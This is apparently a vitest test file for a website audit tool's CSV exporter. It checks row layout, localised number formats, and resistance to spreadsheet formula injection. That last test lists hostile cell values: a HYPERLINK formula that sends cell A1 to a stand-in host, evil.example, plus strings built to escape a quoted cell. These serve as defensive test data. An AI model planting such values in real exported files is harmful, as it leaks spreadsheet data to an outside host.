import { expect, test } from 'vitest'
import type { AuditReport } from '#contracts/audit-report.ts'
import { judge } from '../judge/judge.ts'
import { readPagesOf } from '../testing/made-up.ts'
import { atelierVisit } from '../testing/site-visit.ts'
import { csvReport } from './csv.ts'

const visit = atelierVisit()
const report = judge(visit, readPagesOf(visit))

/** A reader of RFC 4180, as a spreadsheet has it: quoted cells hold separators, quotes and line ends. */
function cellsOf(csv: string, separator: string): readonly (readonly string[])[] {
  const cells = csv.slice(1).matchAll(/"((?:[^"]|"")*)"(.|\r\n)/gu)
  const rows: string[][] = [[]]
  for (const [, text = '', end] of cells) {
    rows.at(-1)?.push(text.replaceAll('""', '"'))
    if (end !== separator) rows.push([])
  }
  return rows.slice(0, -1)
}

test.each([
  ['fr', ';', 'Pilier'],
  ['en', ',', 'Pillar'],
] as const)(
  'in %s the table has a row for each check and each of its pages',
  (language, separator, first) => {
    const [heading, ...rows] = cellsOf(csvReport(report, language), separator)
    const expected = report.findings.reduce((sum, { pages }) => sum + Math.max(1, pages.length), 0)
    expect(heading?.[0]).toBe(first)
    expect(rows).toHaveLength(expected)
    expect(rows.filter(row => row.length !== heading?.length)).toEqual([])
  },
)

test('numbers are written as the spreadsheet of the language reads them', () => {
  const finding = { ...(report.findings[0] as AuditReport['findings'][number]), points: 1.5, pages: [] }
  const halves = { ...report, findings: [finding] }
  expect(csvReport(halves, 'fr')).toContain(';"1,5";')
  expect(csvReport(halves, 'en')).toContain(',"1.5",')
})

test.each([
  '=HYPERLINK("https://evil.example?x="&A1,"ok")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a"\r\n=1+1',
  'a";"=1+1";"',
])('text of a site cannot begin a formula or leave its cell: %j', attack => {
  const hostile: AuditReport = {
    ...report,
    findings: report.findings.map(finding => ({
      ...finding,
      sentence: { fr: attack, en: attack },
      evidence: [{ address: attack, where: attack, quote: attack }],
      pages: [{ address: attack, verdict: 'failed' }],
    })),
  }
  for (const [language, separator] of [
    ['fr', ';'],
    ['en', ','],
  ] as const) {
    const [heading, ...rows] = cellsOf(csvReport(hostile, language), separator)
    expect(rows).toHaveLength(report.findings.length)
    expect(rows.filter(row => row.length !== heading?.length)).toEqual([])
    expect(rows.flat().filter(text => /^[=+\-@\t\r＝]/u.test(text))).toEqual([])
    expect(rows.every(row => row.some(text => text.includes(attack)))).toBe(true)
  }
})
